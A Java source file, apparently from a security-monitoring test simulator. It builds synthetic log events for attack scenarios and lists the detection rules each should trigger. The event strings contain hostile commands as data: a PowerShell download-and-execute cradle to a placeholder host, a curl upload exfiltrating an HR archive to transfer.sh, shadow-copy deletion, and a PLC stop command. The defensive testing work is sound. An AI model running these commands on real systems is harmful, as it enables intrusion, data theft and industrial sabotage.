package soc.web.simulator;

import java.time.Duration;
import java.time.Instant;
import java.time.temporal.ChronoUnit;
import java.util.ArrayList;
import java.util.List;
import java.util.Random;
import java.util.function.Predicate;

import soc.web.simulator.Estate.Host;
import soc.web.simulator.Estate.Organisation;

/**
 * Attack scenarios with ground truth. Each builds the events it injects (real formats, the organisation's own hosts
 * and users) and names the alerts the platform must raise for them: the rule ids of the built-in packs of
 * soc-detect ({@code sigma/packs/it}, {@code sigma/packs/ot}), of SigmaHQ rules the launcher loads, and of
 * soc-cases' silent-source monitor.
 */
public enum Scenario {
    PASSWORD_SPRAY("password-spray", o -> !o.ot()) {
        @Override
        ScenarioPlan plan(Organisation o, Instant start, Random random) {
            String attacker = "185.220.101." + (10 + random.nextInt(200));
            List<String> users = new ArrayList<>(o.users());
            java.util.Collections.shuffle(users, random);
            List<SimEvent> events = new ArrayList<>();
            Instant t = start;
            for (int i = 0; i < 12; i++) {
                boolean unknown = i % 5 == 4; // some guessed names do not exist
                String user = unknown ? "admin" + i : users.get(i % users.size());
                t = t.plusMillis(150 + random.nextInt(300));
                events.add(new SimEvent(o.id(), SimSource.WINDOWS_SECURITY, t, Formats.failedLogon(t, o.dc().name(),
                        domainOf(o), user, attacker, unknown ? "0xC0000064" : "0xC000006A")));
            }
            return ScenarioPlan.ofEvents(id(), o.id(), start, events, List.of(
                    ExpectedAlert.required(Rules.FAILED_LOGON, "Failed Logon With a Bad Password or an Unknown Account"),
                    ExpectedAlert.optional(Rules.PASSWORD_SPRAY, "Password Spray - One Source, Many Accounts"),
                    ExpectedAlert.optional("f88e112a-21aa-44bd-9b01-6ee2a2bbbed1", "Failed Logon From Public IP")));
        }
    },
    RANSOMWARE_PRECURSOR("ransomware-precursor", o -> true) {
        @Override
        ScenarioPlan plan(Organisation o, Instant start, Random random) {
            Host ws = pick(o.workstations(), random);
            String user = pick(o.users(), random);
            String cmd = "C:\\Windows\\System32\\cmd.exe";
            String parentCmd = "cmd.exe /c \"C:\\Users\\Public\\update.bat\"";
            String[][] steps = {
                    {"C:\\Windows\\System32\\whoami.exe", "whoami /all"},
                    {"C:\\Windows\\System32\\net.exe", "net group \"Domain Admins\" /domain"},
                    {"C:\\Windows\\System32\\nltest.exe", "nltest /domain_trusts"},
                    {"C:\\Windows\\System32\\vssadmin.exe", "vssadmin.exe delete shadows /all /quiet"},
                    {"C:\\Windows\\System32\\wbem\\WMIC.exe", "wmic shadowcopy delete /nointeractive"}};
            List<SimEvent> events = new ArrayList<>();
            Instant t = start;
            for (String[] step : steps) {
                t = t.plusMillis(400 + random.nextInt(600));
                events.add(new SimEvent(o.id(), SimSource.SYSMON, t, Formats.sysmonProcess(t, ws.name(), user,
                        step[0], step[1], cmd, parentCmd)));
            }
            return ScenarioPlan.ofEvents(id(), o.id(), start, events, withSigmaHq(List.of(
                    ExpectedAlert.required(Rules.SHADOW_COPY_DELETION, "Volume Shadow Copies Deleted")), Rules.SIGMAHQ_RANSOMWARE));
        }
    },
    PHISHING_MACRO("phishing-macro", o -> true) {
        @Override
        ScenarioPlan plan(Organisation o, Instant start, Random random) {
            Host ws = pick(o.workstations(), random);
            String user = pick(o.users(), random);
            Instant t1 = start.plusMillis(200);
            Instant t2 = t1.plusMillis(1500 + random.nextInt(1000));
            Instant t3 = t2.plusMillis(2000 + random.nextInt(1000));
            String word = "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE";
            List<SimEvent> events = List.of(
                    new SimEvent(o.id(), SimSource.M365, t1, Formats.m365(t1, "MailItemsAccessed", "Exchange",
                            user + "@" + o.domain(), ws.ip(), "Succeeded", Formats.ordered("MailAccessType", "Bind",
                                    "Subject", "Overdue invoice 4471 - action required",
                                    "Sender", "accounts@invoices-portal.example"))),
                    new SimEvent(o.id(), SimSource.SYSMON, t2, Formats.sysmonProcess(t2, ws.name(), user, word,
                            "\"" + word + "\" /n \"C:\\Users\\" + user + "\\AppData\\Local\\Microsoft\\Windows\\INetCache"
                                    + "\\Content.Outlook\\Invoice_4471.docm\" /o \"\"",
                            "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE", "\"OUTLOOK.EXE\"")),
                    new SimEvent(o.id(), SimSource.SYSMON, t3, Formats.sysmonProcess(t3, ws.name(), user,
                            "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                            "powershell.exe -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://invoices-portal.example/a.ps1')\"",
                            word, "\"" + word + "\" /n Invoice_4471.docm")));
            return ScenarioPlan.ofEvents(id(), o.id(), start, events, withSigmaHq(List.of(
                    ExpectedAlert.required(Rules.OFFICE_SCRIPT_HOST, "Office Application Starts a Script Host or Shell")),
                    Rules.SIGMAHQ_PHISHING));
        }
    },
    PLC_STOP_FROM_IT("plc-stop-from-it", Organisation::ot) {
        @Override
        ScenarioPlan plan(Organisation o, Instant start, Random random) {
            Host ws = pick(o.workstations(), random);
            Host plc = o.ot("PLC");
            String uid = "C" + Long.toString(Math.abs(random.nextLong()), 36).substring(0, 10);
            Instant t1 = start.plusMillis(200);
            Instant t2 = t1.plusMillis(300 + random.nextInt(300));
            List<SimEvent> events = List.of(
                    new SimEvent(o.id(), SimSource.OT_ZEEK, t1, Formats.zeekConn(t1, uid, ws.ip(), 51000 + random.nextInt(999),
                            plc.ip(), 102, "tcp", "s7comm", 512, 128, "SF")),
                    new SimEvent(o.id(), SimSource.OT_ZEEK, t2, Formats.zeekS7(t2, uid, ws.ip(), plc.ip(), 41, "PLC Stop")));
            return ScenarioPlan.ofEvents(id(), o.id(), start, events, List.of(
                    ExpectedAlert.required(Rules.S7_PLC_STOP, "Siemens S7 PLC Stop or Control Request"),
                    ExpectedAlert.required(Rules.IT_TO_OT, "Connection From Outside the OT Networks to an Industrial Protocol Port")));
        }
    },
    DNP3_COLD_RESTART("dnp3-cold-restart", Organisation::ot) {
        @Override
        ScenarioPlan plan(Organisation o, Instant start, Random random) {
            Host scada = o.ot("SCADA_SERVER");
            Host rtu = o.ot("RTU");
            Instant t1 = start.plusMillis(200);
            Instant t2 = t1.plusMillis(5);
            String uid = "C" + Long.toString(Math.abs(random.nextLong()), 36).substring(0, 10);
            List<SimEvent> events = List.of(
                    new SimEvent(o.id(), SimSource.OT_SURICATA, t1, Formats.suricataDnp3(t1, Math.abs(random.nextLong() % 1_000_000_000_000L),
                            scada.ip(), rtu.ip(), 13, 1, 10)),
                    new SimEvent(o.id(), SimSource.OT_ZEEK, t2, Formats.zeekDnp3(t2, uid, scada.ip(), rtu.ip(),
                            "COLD_RESTART", "RESPONSE")));
            return ScenarioPlan.ofEvents(id(), o.id(), start, events, List.of(
                    ExpectedAlert.required(Rules.DNP3_COLD_RESTART, "DNP3 Cold Restart Request")));
        }
    },
    EXFILTRATION("exfiltration-rare-domain", o -> true) {
        @Override
        ScenarioPlan plan(Organisation o, Instant start, Random random) {
            Host ws = pick(o.workstations(), random);
            String user = pick(o.users(), random);
            String archive = "C:\\Users\\" + user + "\\AppData\\Local\\Temp\\hr-export-" + (100 + random.nextInt(900)) + ".zip";
            String ip = "198.51.100." + (20 + random.nextInt(200));
            Instant t1 = start.plusMillis(200);
            Instant t2 = t1.plusMillis(150);
            Instant t3 = t2.plusMillis(40_000 / 100);
            String uid = "C" + Long.toString(Math.abs(random.nextLong()), 36).substring(0, 10);
            List<SimEvent> events = List.of(
                    new SimEvent(o.id(), SimSource.SYSMON, t1, Formats.sysmonProcess(t1, ws.name(), user,
                            "C:\\Windows\\System32\\curl.exe", "curl.exe -s -T " + archive + " https://transfer.sh/"
                                    + archive.substring(archive.lastIndexOf('\\') + 1), "C:\\Windows\\System32\\cmd.exe",
                            "cmd.exe")),
                    new SimEvent(o.id(), SimSource.ZEEK, t2, Formats.zeekDns(t2, uid, ws.ip(), o.dc().ip(), "transfer.sh", ip)),
                    new SimEvent(o.id(), SimSource.PERIMETER_FIREWALL, t3, Formats.firewall(t3, "fw01." + o.domain(), "allow",
                            ws.ip(), 50000 + random.nextInt(9999), ip, 443, "tcp", 48_000_000L + random.nextInt(9_000_000), 52_000, "outbound-web")));
            return ScenarioPlan.ofEvents(id(), o.id(), start, events, List.of(
                    ExpectedAlert.required(Rules.CURL_UPLOAD_FILE_SHARING, "Curl File Upload To File Sharing Websites"),
                    ExpectedAlert.optional("e218595b-bbe7-4ee5-8a96-f32a24ad3468", "Suspicious Curl.EXE Download"),
                    ExpectedAlert.optional("bbeaed61-1990-4773-bf57-b81dbad7db2d", "Curl.EXE Execution"),
                    ExpectedAlert.optional("00bca14a-df4e-4649-9054-3f2aa676bc04", "Potential Data Exfiltration Via Curl.EXE")));
        }
    },
    SILENT_SOURCE("silent-source", o -> true) {
        @Override
        ScenarioPlan plan(Organisation o, Instant start, Random random) {
            SimSource muted = SimSource.BRANCH_FIREWALL;
            Duration threshold = Duration.ofMinutes(muted.silentAfterMinutes());
            Instant reference = start.plus(threshold);
            return new ScenarioPlan(id(), o.id(), start, List.of(), muted, threshold.plusMinutes(4),
                    List.of(ExpectedAlert.required(Rules.SILENT_SOURCE, "Silent data source")),
                    ScenarioPlan.MatchOn.DETECTED_AT, start, reference.plus(Duration.ofMinutes(10)), reference);
        }
    };

    /** Rule ids the scenarios expect. */
    public static final class Rules {
        public static final String FAILED_LOGON = "24df2b18-1548-42ec-bc3d-89d05139b543";
        public static final String PASSWORD_SPRAY = "710455dd-2139-4412-b06e-b53187cf8bb6";
        public static final String SHADOW_COPY_DELETION = "95c04477-1403-443f-9f4d-a01d001d8a4b";
        public static final String OFFICE_SCRIPT_HOST = "98cd5b9d-c725-42ec-bb1b-584804bdcd2c";
        public static final String S7_PLC_STOP = "71b7081d-a818-4d52-859e-58e7f9bc9f16";
        public static final String IT_TO_OT = "0e30fbb2-53ae-4768-9fa8-e4a4f8fb260f";
        public static final String DNP3_COLD_RESTART = "c0f21dc3-e109-4e15-8b13-baebb54124fd";
        /** SigmaHQ (loaded by ./soc from ../shared/corpus/sigma/rules). */
        public static final String CURL_UPLOAD_FILE_SHARING = "e328cc73-f92a-42fb-b3fa-7c2cffda981a";
        /** soc-cases' SilentSourceMonitor.RULE_ID. */
        public static final String SILENT_SOURCE = "soc-silent-source";
        /** SigmaHQ rules that also match the ransomware precursor's events (optional: only when SigmaHQ is loaded). */
        static final List<ExpectedAlert> SIGMAHQ_RANSOMWARE = List.of(
                ExpectedAlert.optional("502b42de-4306-40b4-9596-6f590c81f073", "Local Accounts Discovery"),
                ExpectedAlert.optional("183e7ea8-ac4b-4c23-9aec-b3dac4e401ac", "Net.EXE Execution"),
                ExpectedAlert.optional("c248c896-e412-4279-8c15-1c558067b6fa", "Enumerate All Information With Whoami.EXE"),
                ExpectedAlert.optional("d95de845-b83c-4a9a-8a6a-4fc802ebf6c0",
                        "Suspicious Group And Account Reconnaissance Activity Using Net.EXE"),
                ExpectedAlert.optional("903076ff-f442-475a-b667-4f246bcc203b", "Nltest.EXE Execution"),
                ExpectedAlert.optional("5cc90652-4cbd-4241-aa3b-4b462fa5a248", "Potential Recon Activity Via Nltest.EXE"),
                ExpectedAlert.optional("c947b146-0abc-4c87-9c64-b17e9d7274a2",
                        "Shadow Copies Deletion Using Operating Systems Utilities"));
        /** SigmaHQ rules that also match the phishing scenario's events. */
        static final List<ExpectedAlert> SIGMAHQ_PHISHING = List.of(
                ExpectedAlert.optional("438025f9-5856-4663-83f7-52f878a70a50", "Suspicious Microsoft Office Child Process"),
                ExpectedAlert.optional("85b0b087-eddf-4a2b-b033-d771fa2b9775", "PowerShell Download and Execution Cradles"),
                ExpectedAlert.optional("3b6ab547-8ec2-4991-b9d2-2b06702a48d7", "PowerShell Download Pattern"),
                ExpectedAlert.optional("536e2947-3729-478c-9903-745aaffe60d2",
                        "Suspicious PowerShell Invocations - Specific - ProcessCreation"),
                ExpectedAlert.optional("f4bbd493-b796-416e-bbf2-121235348529", "Non Interactive PowerShell Process Spawned"),
                ExpectedAlert.optional("e6c54d94-498c-4562-a37c-b469d8e9a275", "Suspicious PowerShell Download and Execute Pattern"));

        private Rules() {
        }
    }

    private final String id;
    private final Predicate<Organisation> appliesTo;

    Scenario(String id, Predicate<Organisation> appliesTo) {
        this.id = id;
        this.appliesTo = appliesTo;
    }

    public String id() {
        return id;
    }

    /** Whether the scenario fits the organisation (OT attacks need OT). */
    public boolean appliesTo(Organisation organisation) {
        return appliesTo.test(organisation);
    }

    /** The events and ground truth of one injection starting at {@code start}. */
    abstract ScenarioPlan plan(Organisation organisation, Instant start, Random random);

    public ScenarioPlan plan(Organisation organisation, Instant start, long seed) {
        if (!appliesTo(organisation)) {
            throw new IllegalArgumentException("Scenario " + id + " does not apply to " + organisation.id());
        }
        return plan(organisation, start.truncatedTo(ChronoUnit.MILLIS), new Random(seed));
    }

    public static Scenario byId(String id) {
        for (Scenario scenario : values()) {
            if (scenario.id.equals(id)) {
                return scenario;
            }
        }
        throw new IllegalArgumentException("Unknown scenario " + id);
    }

    static String domainOf(Organisation o) {
        return o.id().toUpperCase(java.util.Locale.ROOT).replace("-", "");
    }

    static <T> T pick(List<T> list, Random random) {
        return list.get(random.nextInt(list.size()));
    }

    private static List<ExpectedAlert> withSigmaHq(List<ExpectedAlert> own, List<ExpectedAlert> sigmaHq) {
        List<ExpectedAlert> all = new ArrayList<>(own);
        all.addAll(sigmaHq);
        return all;
    }
}
